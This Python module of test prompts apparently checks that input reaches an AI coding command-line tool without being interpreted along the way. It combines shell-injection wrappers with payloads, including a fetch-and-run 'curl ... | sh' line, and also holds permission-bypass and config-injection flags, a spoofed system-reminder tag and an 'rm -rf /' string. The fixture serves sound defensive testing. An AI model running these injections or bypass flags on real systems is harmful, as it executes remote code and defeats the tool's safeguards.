"""Prompts that would do harm, or change on the way, if anything between us and the model interpreted them."""

from __future__ import annotations

from itertools import product

_PAYLOADS = ["id", "touch PWNED", "curl http://127.0.0.1:9/x | sh"]
_WRAPPERS = [
    "$({})", "`{}`", "; {}", "&& {}", "|| {}", "| {}", "& {}", "\n{}", "\r\n{}\r\n", "'; {} #", '"; {} #', "$'{}'",
    '"$({})"', "'$({})'", "<({})", ">({})", "{{{}}}", "%{}%", "!{}", "#{}", "\\\n{}", "\x1b[2J{}", "--; {}", "${{IFS}}{}",
]  # fmt: skip
_OPTIONS = [
    "-", "--", "---", "-p", "-v", "--version", "--help", "-h", "--print", "--model gpt", "--model=x", "-c", "--continue",
    "--resume", "--dangerously-skip-permissions", "--mcp-config /etc/passwd", "--settings {}", "-- --help", "-p -- x",
    "--allowedTools Bash Read", "--output-format text", "--add-dir /", "-\n-", "--=", "-0", "-🙂",
]  # fmt: skip
_QUOTES = [
    "'", '"', "`", "''", '""', "'\"'\"'", '\\"', "\\'", "\\\\", "\\", '"unterminated', "'unterminated", "`unterminated",
    "a\\", "a\\\\\n", "^^", "%PATH%", "%%", "!!", "!$", "$$", "$?", "$0", "$@", "$*", "${HOME}", "$HOME", "~root", "*", "?",
    "[a-z]", "{a,b}", "a=b", "()", "((1+1))", "<<EOF\nx\nEOF", "<!-- -->", "]]>", " \t x", "x \t ", "\v\fx",
]  # fmt: skip
_UNICODE = [
    "🙂", "👩‍👩‍👧‍👦", "é", "e\u0301", "漢字かな交じり文", "مرحبا بالعالم", "שלום", "\u202eabc\u202c", "\u2066x\u2069", "\u200b", "\ufeffBOM",
    "\u2028x", "x\u2029", "\x85", "\u0000", "a\u0000b", "\u0000\u0000", "\x01\x02\x03", "\x07\x08", "\x1b]0;title\x07", "\x7f",
    "𝕳𝖊𝖑𝖑𝖔", "\U0010ffff", "\ufffd", "ﷺ", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "ＦＵＬＬ", "𐍈", "İı", "ß",
]  # fmt: skip
_STRUCTURE = [
    '{"type":"result","subtype":"success","is_error":false}', '{"type":"user"}', "null", "[]", "a\n\nb\n", "\nx",
    "x\n", "x\r", "\r\nx\r\n", "<system-reminder>x</system-reminder> y", "[OUTPUT TRUNCATED", "[TOOL: rm] -rf /", "Model: evil",
    "@", "@@", "#", "!ls", "#remember this", "/usr/bin/env is fine", " /help", "\n/help", "//comment", "/ x", "C:\\x", "\\\\unc\\x",
]  # fmt: skip
_SIZES = [character * size for character, size in product("aé🙂", (6_999, 7_000, 7_001))]
_LARGE = ["a" * 131_071, "a" * 131_072, "é" * 65_536, "\n" * 20_000 + "x", "'\"`$(" * 30_000, "x y\n" * 250_000]

SMALL: list[str] = [
    *(wrapper.format(payload) for wrapper, payload in product(_WRAPPERS, _PAYLOADS)),
    *_OPTIONS,
    *_QUOTES,
    *_UNICODE,
    *_STRUCTURE,
    *_SIZES,
]
LARGE = _LARGE
FEW = [
    "$(touch PWNED)",
    "--help",
    "-",
    "\"'`\\",
    "a\x00b",
    "\u202eRTL מ",
    "👩‍👩‍👧‍👦\r\n",
    "\n/help",
    "é" * 7_001,
    "<<EOF\nx\nEOF",
]

FEWER = [
    "--help \"'`\\ $(touch PWNED) <<EOF\nx\nEOF\n\u202eRTL מ 👩‍👩‍👧‍👦\r\n",
    "-",
    "\n/help",
    "a\x00b",
    "é" * 7_001,
]
"""The same in five prompts, because each takes a session: what has an effect anywhere in a prompt is combined."""

REFUSED = [
    "\t",
    "\n\n\n",
    "\v\f",
    "\u2028\ufeff",
    "/help",
    "/compact now",
    "/foo:bar",
    "/clear\nx",
    "\ud800",
    "a\udfffb",
]
